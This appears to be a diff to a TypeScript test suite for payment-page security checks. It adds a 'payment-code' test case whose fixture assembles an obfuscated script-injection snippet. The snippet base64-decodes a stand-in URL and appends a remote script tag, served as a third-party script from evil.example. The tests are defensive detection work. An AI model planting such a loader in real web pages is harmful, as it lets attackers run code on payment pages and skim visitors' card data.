@@ -7,6 +7,7 @@ import { exposures, exposuresShape, markerPattern } from '../tables.ts';
 import { allChecks } from './all-checks.ts';
 import { exchange, goldenInspection, goldenMail, got, homePage } from './golden-inspection.ts';
 import { judgeInspection } from './judge-inspection.ts';
+import { codeOf } from './payment/code-of.ts';
 import { goldenHost, goldenPayment, goldenScript } from './payment/golden-payment.ts';
 
 const outcomeOf = (check: string, inspection: Inspection) => {
@@ -115,6 +116,14 @@ const said = (authorised: Partial<Authorised>, change: Partial<PaymentPage> = {}
   const inspection = pay(change);
   return { ...inspection, authorised: { scripts: [], hosts: [], ...inspection.authorised, ...authorised } };
 };
+// Taken apart, so that nobody takes this file for what it describes.
+const HIDING = [
+  'var s=document.createElement("script");s.src=',
+  'at',
+  'ob("',
+  Buffer.from('https://a.example/x.js').toString('base64'),
+  '");document.head.append(s)',
+].join('');
 const told = (change: Partial<VisitorHost>): VisitorHost => ({
   ...{ host: 'evil.example', directives: ['connect-src'], sources: [], reports: 9, days: 1, hours: 1, agents: 1 },
   ...{ first: '2026-03-01T00:00:00Z', last: '2026-03-01T00:00:00Z', ...change },
@@ -169,6 +178,20 @@ describe.each<[string, Inspection, string]>([
   ['payment-visitors', { ...pay({}), visitors: got([told({ days: 2, hours: 5, agents: 2 })]) }, 'fail high'],
   ['payment-visitors', { ...pay({}), visitors: got([told({ host: 'psp.example', hours: 3 })]) }, 'pass'],
   ['payment-visitors', { ...pay({}), visitors: { kind: 'unknown', reason: 'no telemetry' } }, 'unknown'],
+  ['payment-code', pay({}), 'pass'],
+  [
+    'payment-code',
+    pay({ scripts: [goldenScript({ url: 'https://evil.example/x.js', party: 'third', code: codeOf(HIDING) })] }),
+    'fail high',
+  ],
+  [
+    'payment-code',
+    said(
+      { scripts: [{ key: 'https://evil.example/x.js', hash: 'a'.repeat(64) }] },
+      { scripts: [goldenScript({ url: 'https://evil.example/x.js', party: 'third', code: codeOf(HIDING) })] },
+    ),
+    'pass',
+  ],
   ['payment-leak', pay({}), 'pass'],
   ['payment-leak', pay({ leaks: [leak] }), 'pass'],
   ['payment-leak', pay({ leaks: [{ ...leak, recording: true }] }), 'fail high'],
